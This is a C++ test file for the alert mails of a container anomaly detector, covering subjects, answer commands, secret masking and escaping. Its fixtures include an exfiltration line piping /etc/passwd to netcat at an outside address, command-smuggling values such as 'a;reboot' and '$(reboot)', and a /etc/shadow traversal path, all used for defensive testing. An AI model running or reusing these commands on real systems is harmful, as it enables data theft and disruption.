#include <algorithm>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "analyzer/notify/alert_view.h"
#include "analyzer/notify/answer_commands.h"
#include "analyzer/notify/mail_html.h"
#include "analyzer/notify/mail_message.h"
#include "analyzer/notify/mail_text.h"
#include "tests/support/hostile_text.h"
#include "tests/support/sample_alerts.h"

using namespace da;
using Catch::Matchers::Contains;
using Catch::Matchers::StartsWith;

namespace {

constexpr std::int64_t kAttack = test::kAttackTime;

bool is_plain(const std::string& text) {
  return std::all_of(text.begin(), text.end(), [](char c) { return c == '\n' || (c >= ' ' && c <= '~'); });
}

std::string text_of(const Notification& note, const Notices& notices = {}) {
  return render_text(make_view(note, notices, {}));
}

/// Without line breaks and indents, to look for sentences.
std::string flowing(const std::string& text) {
  std::string flow;
  for (const char c : text) {
    if (c != '\n' && (c != ' ' || flow.empty() || flow.back() != ' ')) flow += c;
    if (c == '\n' && !flow.empty() && flow.back() != ' ') flow += ' ';
  }
  return flow;
}

}  // namespace

SCENARIO("the subject says where and what") {
  const MailView view = make_view(test::command_injection(), {}, {});
  REQUIRE(view.subject ==
          "[docker-anomalies] web (shop:1.4) on host7: /bin/dash (started as sh) never seen in this image "
          "(+6 more)");
  Notification one = test::command_injection();
  one.counts.clear();
  one.alerts = {test::python_departs()};
  REQUIRE(make_view(one, {}, {}).subject ==
          "[docker-anomalies] web (shop:1.4) on host7: python3.11 left its usual sequence of calls");
}

SCENARIO("a known program with a new parent is not called unknown") {
  Notification note = test::command_injection();
  note.counts.clear();
  note.alerts = {test::shell_starts()};
  note.alerts[0].kind = AlertKind::new_start;
  note.alerts[0].started_by = "/usr/sbin/cron";
  REQUIRE(
      make_view(note, {}, {}).subject ==
      "[docker-anomalies] web (shop:1.4) on host7: cron started /bin/dash (started as sh), as it never did");
  REQUIRE_THAT(
      flowing(text_of(note)),
      Contains("/bin/dash (started as sh) was started by /usr/sbin/cron, which never started it while "
               "image shop:1.4 was learned."));
  REQUIRE_THAT(flowing(text_of(note)), !Contains("never seen"));
}

SCENARIO("a start from outside is told as one") {
  Notification note = test::command_injection();
  note.counts.clear();
  note.alerts = {test::shell_starts()};
  note.alerts[0].kind = AlertKind::new_start;
  note.alerts[0].started_by = kOutside;
  REQUIRE(make_view(note, {}, {}).subject ==
          "[docker-anomalies] web (shop:1.4) on host7: /bin/dash (started as sh) started from outside, as "
          "never before");
  REQUIRE_THAT(
      flowing(text_of(note)),
      Contains(
          "/bin/dash (started as sh) was started from outside the container (docker exec or a health check), "
          "which was never seen while image shop:1.4 was learned."));
  note.alerts[0].kind = AlertKind::new_executable;
  REQUIRE_THAT(flowing(text_of(note)),
               Contains("/bin/dash (started as sh) was started from outside the container (docker exec "
                        "or a health check). No program of this name was ever seen"));
}

SCENARIO("a mail names the commands by which an operator answers it") {
  Notification note = test::command_injection();
  note.alerts = {test::python_departs()};
  const std::string& id = note.alerts[0].id;
  ViewOptions options;
  options.config_file = "/srv/da/analyzer.yaml";
  ViewOptions bare = options;
  bare.bare = true;
  const MailView view = make_view(note, {}, options);
  for (const std::string& mail :
       {render_text(view), render_html(view), view.json, render_text(make_view(note, {}, bare))}) {
    for (const char* verb : {"show", "accept", "reject"})
      REQUIRE_THAT(mail, Contains("analyzer alert " + std::string(verb) + " " + id +
                                  " --config /srv/da/analyzer.yaml"));
  }
  // On one line, to be pasted.
  REQUIRE_THAT(render_text(view),
               Contains("\n      analyzer silence add --container web --executable "
                        "/usr/local/bin/python3.11 --for 24h --comment 'alert a-5d1c09e77a42' "
                        "--config /srv/da/analyzer.yaml\n"));
  REQUIRE_THAT(render_text(make_view(note, {}, bare)), !Contains("silence"));
  note.alerts[0].id = "a;reboot";
  REQUIRE_THAT(text_of(note), !Contains("analyzer "));
}

SCENARIO("what cannot be typed safely is in no command") {
  Alert alert = test::python_departs();
  const auto silence = [&] {
    for (const AnswerCommand& command : answer_commands(alert, "")) {
      if (command.key == std::string_view("silence")) return command.text;
    }
    return std::string();
  };
  REQUIRE(answer_commands(alert, "/etc/docker-anomalies/analyzer.yaml")[1].text ==
          "analyzer alert accept a-5d1c09e77a42");
  REQUIRE(answer_commands(alert, "a b'c")[1].text ==
          "analyzer alert accept a-5d1c09e77a42 --config $'a b\\'c'");
  alert.executable = "/tmp/$(reboot) [x]*";
  REQUIRE_THAT(silence(), Contains("--executable '/tmp/$(reboot) \\[x]\\*' "));
  for (const char* name : {"", "-x", "a\nb", "caf\xc3\xa9", "\x1b[2J"}) {
    alert.executable = name;
    REQUIRE(silence().empty());
  }
  alert.executable = std::string(300, 'a');
  REQUIRE(silence().empty());
  alert.executable = "/bin/sh";
  alert.container_name.clear();
  REQUIRE_THAT(silence(), Contains("--container " + alert.container_id));
  alert.container_id.clear();
  REQUIRE(silence().empty());
}

SCENARIO("an alert that a score raised has a picture of it; others have none") {
  const Notification note = test::command_injection();
  const MailView view = make_view(note, {}, {});
  REQUIRE(view.pictures.size() == 1);
  REQUIRE(view.pictures[0].png.substr(1, 3) == "PNG");
  REQUIRE(view.pictures[0].png.size() < 30'000);
  REQUIRE(view.alerts[0].picture == "score-1.inc-6b1f0c2ad94e7788.0@docker-anomalies");
  REQUIRE(view.alerts[1].picture.empty());
  REQUIRE_THAT(render_html(view),
               Contains("<img src=\"cid:score-1.inc-6b1f0c2ad94e7788.0@docker-anomalies\"") &&
                   Contains("alt=\"Score: at most 2 in the 14 minutes before, then 9; the threshold is 3\""));
  REQUIRE_THAT(flowing(render_text(view)), Contains("before at most 2 in the 14 minutes before, then 9;"));

  const auto has_picture = [&](auto change) {
    Notification changed = note;
    change(changed.alerts[0]);
    return !make_view(changed, {}, {}).pictures.empty();
  };
  REQUIRE(has_picture([](Alert&) {}));
  REQUIRE(has_picture([](Alert& alert) { alert.kind = AlertKind::new_call; }));
  REQUIRE_FALSE(has_picture([](Alert& alert) { alert.kind = AlertKind::new_executable; }));
  REQUIRE_FALSE(has_picture([](Alert& alert) { alert.scores = {}; }));  // of an earlier release
  // What a store might give back.
  REQUIRE_FALSE(has_picture([](Alert& alert) { alert.scores.values.resize(10'000); }));
  REQUIRE_FALSE(has_picture([](Alert& alert) { alert.scores.step_ns = 0; }));
  REQUIRE_FALSE(
      has_picture([](Alert& alert) { alert.scores.step_ns = std::numeric_limits<std::int64_t>::max(); }));
  REQUIRE_FALSE(
      has_picture([](Alert& alert) { alert.scores.end_ns = std::numeric_limits<std::int64_t>::min(); }));
  REQUIRE_FALSE(has_picture([](Alert& alert) { alert.time_ns = std::numeric_limits<std::int64_t>::max(); }));
  REQUIRE_FALSE(has_picture([](Alert& alert) { alert.score = std::numeric_limits<double>::quiet_NaN(); }));
  REQUIRE(has_picture([](Alert& alert) {
    alert.scores.values = {std::numeric_limits<std::int32_t>::min(), 9};
  }));
  REQUIRE(has_picture([](Alert& alert) {
    alert.scores.values = {std::numeric_limits<std::int32_t>::max(), 9};
  }));

  // A mail has few of them, and one of each program.
  Notification many = note;
  many.alerts.assign(10, note.alerts[0]);
  REQUIRE(make_view(many, {}, {}).pictures.size() == 1);
  for (std::size_t i = 0; i < many.alerts.size(); ++i)
    many.alerts[i].executable += std::to_string(i);
  REQUIRE(make_view(many, {}, {}).pictures.size() == 3);
}

SCENARIO("of many alerts those that tell most are shown in full, the others in brief") {
  Notification note = test::command_injection();
  note.counts.clear();
  note.alerts.assign(4, test::python_departs());
  note.alerts.push_back(test::shell_starts());
  const MailView view = make_view(note, {}, {});
  std::vector<bool> brief;
  for (const AlertView& alert : view.alerts) {
    brief.push_back(alert.brief);
    CHECK(alert.calls.empty() == alert.brief);
    CHECK_FALSE(alert.sentence.empty());
    CHECK(std::ranges::any_of(alert.facts, [](const Fact& fact) { return fact.label == "image"; }) !=
          alert.brief);
    CHECK(alert.answers.size() == (alert.brief ? 1 : 4));
    CHECK_THAT(alert.answers.at(0).value, StartsWith("analyzer alert show "));
  }
  CHECK(brief == std::vector<bool>{false, false, true, true, false});
  // Of three programs never seen in a row the way in is not left out.
  Notification programs = note;
  programs.alerts = {test::shell_starts(), test::shell_starts(), test::shell_starts(),
                     test::python_departs()};
  const MailView entered = make_view(programs, {}, {});
  CHECK((entered.alerts[2].brief && !entered.alerts[3].brief));
  for (const std::string& shown : {render_text(view), render_html(view)})
    CHECK_THAT(shown, Contains("In brief; its calls are in the attachment"));
  const auto attached = nlohmann::json::parse(view.json).at("docker_anomalies.alerts");
  REQUIRE(attached.size() == 5);
  for (const auto& alert : attached)
    CHECK_FALSE(alert.at("docker_anomalies.evidence.calls").empty());

  note.alerts.resize(3);
  CHECK_THAT(text_of(note), !Contains("In brief"));
}

SCENARIO("a thread unlike all others is told with what sets it apart") {
  Notification note = test::command_injection();
  note.counts.clear();
  note.alerts = {test::python_departs()};
  Alert& alert = note.alerts[0];
  alert.kind = AlertKind::unusual_thread;
  alert.score = 9.1;
  alert.threshold = 6.3;
  alert.score_meaning = "how far 312 calls of this thread are from those learned, all in all";
  alert.thread = "score 9.1, threshold 6.3; surprisal z 12.0 (3.41); hostile \x1b" + std::string(600, 'x');
  REQUIRE(make_view(note, {}, {}).subject ==
          "[docker-anomalies] web (shop:1.4) on host7: python3.11 ran a thread unlike all others");
  const std::string text = text_of(note);
  CHECK(is_plain(text));
  CHECK_THAT(flowing(text), Contains("ran a thread that as a whole is unlike those it was learned from."));
  CHECK_THAT(flowing(text), Contains("surprisal z 12.0 (3.41); hostile \\x1b"));
  CHECK_THAT(flowing(text), Contains("9.1, 1.44 times the threshold of 6.3; it counts how far 312 calls"));
}

SCENARIO("a program started by another name is shown with the name that people know") {
  Notification note = test::command_injection();
  note.counts.clear();
  note.alerts = {test::python_departs()};
  Alert& alert = note.alerts[0];
  const auto shown = [&](const std::string& executable, const std::string& command_line) {
    alert.executable = executable;
    alert.command_line = command_line;
    return flowing(text_of(note));
  };
  const std::string renamed = shown("/usr/bin/redis-check-rdb", std::string("redis-server\0*:6379\0", 20));
  REQUIRE_THAT(renamed, Contains("process /usr/bin/redis-check-rdb (started as redis-server), pid"));
  REQUIRE_THAT(shown("/bin/busybox", "/usr/bin/wget"), Contains("(started as wget)"));
  REQUIRE_THAT(shown("/usr/bin/bash", "-bash"), !Contains("started as"));
  REQUIRE_THAT(shown("/usr/bin/bash", "/bin/bash"), !Contains("started as"));
  REQUIRE_THAT(shown("/usr/bin/bash", ""), !Contains("started as"));
  REQUIRE_THAT(shown("/usr/bin/bash", "a\x1b[2J\n"), !Contains("\x1b"));
}

SCENARIO("a call never made has its score of the moment, which did not matter") {
  Notification note = test::command_injection();
  note.alerts = {test::python_departs()};
  note.alerts[0].kind = AlertKind::new_call;
  note.alerts[0].score = 2;
  REQUIRE_THAT(flowing(text_of(note)),
               Contains("2 so far, and the threshold is 3; a call never made is told whatever the score"));
}

SCENARIO("the text says what happened, what led to it and what was expected") {
  const std::string text = text_of(test::command_injection());
  const std::string flow = flowing(text);
  REQUIRE_THAT(text, Contains(">> 03:12:07.109  vfork() = 48211\n"));
  REQUIRE_THAT(text, Contains(" | 03:12:07.107  pipe2("));
  REQUIRE_THAT(text, Contains(" > 03:12:07.110  close(fd=13) = 0\n"));
  REQUIRE_THAT(flow, Contains("never seen accept4 recvfrom stat pipe2 pipe2 vfork"));
  REQUIRE_THAT(flow, Contains("instead of vfork: openat 91 %, sendto 6 %, close under 1 %, any other 2 %"));
  REQUIRE_THAT(flow, Contains("9, 3 times the threshold of 3; it counts departures from known sequences "
                              "among the last 20 calls"));
  REQUIRE_THAT(flow, Contains("complete: no call of this thread was lost"));
  REQUIRE_THAT(flow, Contains("/bin/dash (started as sh) was started by /usr/local/bin/python3.11."));
  REQUIRE_THAT(flow, Contains("sh -c 'convert order.pdf; cat /etc/passwd|nc 203.0.113.9 4444'"));
  REQUIRE_THAT(flow, Contains("alert id a-0b9e3f1d2c55"));
  REQUIRE_THAT(flow, Contains("docker pause 4f66a1b2c3d4"));
  REQUIRE_THAT(flow, Contains("docker logs -t --since 2026-11-24T03:11:07Z 4f66a1b2c3d4"));
  REQUIRE_THAT(flow, Contains("/bin/dash: never seen in this image; 4 more, the last at 03:12:08"));

  std::size_t longest = 0;
  for (std::size_t begin = 0; begin < text.size();) {
    const std::size_t end = text.find('\n', begin);
    if (text.compare(begin, 15, "      analyzer ") != 0) longest = std::max(longest, end - begin);
    begin = end + 1;
  }
  REQUIRE(longest <= 78);
}

SCENARIO("a gap in the evidence is said loudly") {
  Notification note = test::command_injection();
  note.alerts[0].gap_free = false;
  REQUIRE_THAT(text_of(note), Contains("INCOMPLETE"));
}

SCENARIO("secrets do not travel, unless asked for") {
  Notification note = test::command_injection();
  note.alerts[0].calls[0].text = "execve(filename=\"/bin/x\", argv=[\"x\", \"--token=abc123\"])";
  REQUIRE_THAT(text_of(note), !Contains("hunter2") && !Contains("abc123"));
  REQUIRE_THAT(render_html(make_view(note, {}, {})), !Contains("hunter2") && !Contains("abc123"));
  ViewOptions open;
  open.mask = false;
  REQUIRE_THAT(render_text(make_view(note, {}, open)), Contains("hunter2") && Contains("abc123"));
}

SCENARIO("follow-ups and last mails say what they are") {
  Notification note = test::command_injection();
  note.sequence = 2;
  note.total = 20;
  REQUIRE_THAT(flowing(text_of(note)), Contains("Follow-up no. 2 of this incident, 20 alerts so far."));
  note.alerts.clear();
  note.closing = true;
  REQUIRE_THAT(make_view(note, {}, {}).subject, Contains("quiet again after 20 alerts"));
  REQUIRE_THAT(flowing(text_of(note)), Contains("the incident is closed"));
  note.left_out = 12;
  REQUIRE_THAT(flowing(text_of(note)), Contains("12 of these were never shown in full"));
  note.counts[0].unlike = 3;
  REQUIRE_THAT(flowing(text_of(note)),
               Contains("4 more, the last at 03:12:08; 3 of them showed something else"));
}

SCENARIO("what happened to other mails is told") {
  Notices notices;
  notices.dropped_mails = 2;
  notices.dropped_alerts = 9;
  notices.uncertain = {"web on host7: x, alert a-1"};
  notices.refused = {"web on host7: y: 554 \x1b[31mno"};
  notices.repeats_uncertain = true;
  const std::string text = flowing(text_of(test::command_injection(), notices));
  REQUIRE_THAT(text, Contains("2 mails with 9 alerts could not be kept"));
  REQUIRE_THAT(text, Contains("may or may not have reached you: web on host7: x, alert a-1"));
  REQUIRE_THAT(text, Contains("refused this earlier mail: web on host7: y: 554 \\x1b[31mno"));
  REQUIRE_THAT(text, Contains("You may have got this mail before"));
}

SCENARIO("a bare mail holds nothing that a container chose") {
  Notification note = test::command_injection();
  const std::string marker = "X5O!P%@AP";
  note.container_name = marker;
  note.image = marker;
  for (Alert& alert : note.alerts) {
    alert.executable = alert.command_line = alert.parent_executable = alert.image = marker;
    for (EvidenceCall& call : alert.calls)
      call.text = marker;
  }
  note.counts[0].executable = marker;
  ViewOptions bare;
  bare.bare = true;
  const MailView view = make_view(note, {}, bare);
  REQUIRE_THAT(render_text(view) + render_html(view) + view.subject, !Contains(marker));
  REQUIRE_THAT(render_text(view),
               Contains("a-0b9e3f1d2c55") && Contains("4f66a1b2c3d4") && Contains("host7"));
}

SCENARIO("no hostile value leaves its place") {
  for (const std::string& value : test::hostile_texts()) {
    const Notification note = test::hostile_notification(value);
    const MailView view = make_view(note, {}, {});
    REQUIRE(is_plain(view.subject));
    REQUIRE(view.subject.find('\n') == std::string::npos);
    REQUIRE(view.subject.size() < 400);
    const std::string text = render_text(view);
    REQUIRE(is_plain(text));
    const std::string html = render_html(view);
    REQUIRE(is_plain(html));
    CAPTURE(value.substr(0, 40));
    REQUIRE_THAT(html,
                 !Contains("<script") && !Contains("<img src=x") && !Contains("<a ") && !Contains("<!--"));
    REQUIRE(text.size() < 40'000);
    REQUIRE_THAT(text, !Contains("docker pause"));  // its container id is no id
  }
}

SCENARIO("what departs from a habit is told with what was seen instead") {
  Notification note = test::command_injection();
  note.alerts = {test::traversal()};
  note.counts = {{AlertKind::new_directory_changed, "/usr/sbin/apache2", 3, kAttack, true, "/etc/cron.d"},
                 {AlertKind::unusual_pace, "/usr/sbin/apache2", 1, kAttack, false,
                  "calls of openat failed with ENOENT"}};
  REQUIRE(make_view(note, {}, {}).subject ==
          "[docker-anomalies] web (shop:1.4) on host7: apache2 read /etc/shadow (while serving), as it never "
          "did (+4 more)");
  const std::string flow = flowing(text_of(note));
  REQUIRE_THAT(flow, Contains("/usr/sbin/apache2 opens /var/www/../../etc/shadow, never seen while it was "
                              "learned."));
  REQUIRE_THAT(flow, Contains("seen /var/www, /usr/lib, /proc/self and 3 more"));
  REQUIRE_THAT(flow, Contains(">> 03:12:07.120 openat("));
  REQUIRE_THAT(flow, Contains("complete: no call of this thread was lost") && !Contains("score"));
  REQUIRE_THAT(flow, Contains("apache2: changed something where it never did, /etc/cron.d; 3 more"));
  REQUIRE_THAT(flow, Contains("a pace it never had, calls of openat failed with ENOENT; 1 more"));
  REQUIRE_THAT(render_html(make_view(note, {}, {})), Contains("/var/www/../../etc/shadow, never seen"));

  // Arguments may hold a password.
  note.alerts[0].kind = AlertKind::new_arguments;
  note.alerts[0].found = "runs mysql --password=hunter2 -h db, never seen";
  note.alerts[0].object = note.alerts[0].usual = "mysql --password=hunter2";
  const MailView view = make_view(note, {}, {});
  REQUIRE(view.subject.ends_with("apache2 ran with arguments that it never had (+4 more)"));
  REQUIRE_THAT(render_text(view) + render_html(view), !Contains("hunter2"));
}

SCENARIO("no hostile path, address or argument leaves its place, whichever habit it departs from") {
  for (const AlertKind kind : {AlertKind::new_directory_read, AlertKind::new_directory_changed,
                               AlertKind::new_address, AlertKind::new_arguments, AlertKind::unusual_pace}) {
    for (const std::string& value : test::hostile_texts()) {
      Notification note = test::hostile_notification(value);
      for (Alert& alert : note.alerts)
        alert.kind = kind;
      for (AlertCount& count : note.counts)
        count.kind = kind;
      const MailView view = make_view(note, {}, {});
      REQUIRE(is_plain(view.subject));
      REQUIRE(view.subject.find('\n') == std::string::npos);
      REQUIRE(view.subject.size() < 400);
      const std::string text = render_text(view);
      const std::string html = render_html(view);
      REQUIRE(is_plain(text));
      REQUIRE(is_plain(html));
      REQUIRE_THAT(html,
                   !Contains("<script") && !Contains("<img src=x") && !Contains("<a ") && !Contains("<!--"));
      REQUIRE(text.size() < 40'000);
      REQUIRE(headline(note.alerts[0]).size() < 300);
      REQUIRE(is_plain(view.alerts[0].picture_words));
    }
  }
}

SCENARIO("the same mail has the same bytes, and names its thread") {
  Notification note = test::command_injection();
  note.sequence = 2;
  const MailHead head{*MailAddress::from("da@example.org"),
                      {*MailAddress::from("ops@example.org")},
                      "example.org",
                      Moment(std::chrono::milliseconds(1'795'489'929'120)),
                      note.incident + ".2",
                      {note.incident + ".0", note.incident + ".1"},
                      note.incident};
  const std::string mail = compose_mail(make_view(note, {}, {}), head);
  REQUIRE(mail == compose_mail(make_view(note, {}, {}), head));
  REQUIRE_THAT(mail, Contains("\r\nMessage-ID: <inc-6b1f0c2ad94e7788.2@example.org>\r\n"));
  REQUIRE_THAT(mail, Contains("\r\nIn-Reply-To: <inc-6b1f0c2ad94e7788.1@example.org>\r\n"));
  REQUIRE_THAT(mail,
               Contains("\r\nReferences: <inc-6b1f0c2ad94e7788.0@example.org>\r\n <inc-6b1f0c2ad94e7788.1@"));
  REQUIRE_THAT(mail, Contains("\r\nAuto-Submitted: auto-generated\r\n"));
}

SCENARIO("a time that makes no sense overflows nothing") {
  Notification note = test::command_injection();
  note.alerts[0].time_ns = std::numeric_limits<std::int64_t>::min();
  note.alerts[1].time_ns = std::numeric_limits<std::int64_t>::max();
  REQUIRE_THAT(text_of(note), Contains("1970-01-01 00:00:00.000") && Contains("2262-04-11"));
}

SCENARIO("a traced command without a container is named as one") {
  Notification note = test::command_injection();
  note.container_id.clear();
  note.container_name.clear();
  note.image.clear();
  REQUIRE_THAT(make_view(note, {}, {}).subject, Contains("a traced command on host7"));
}
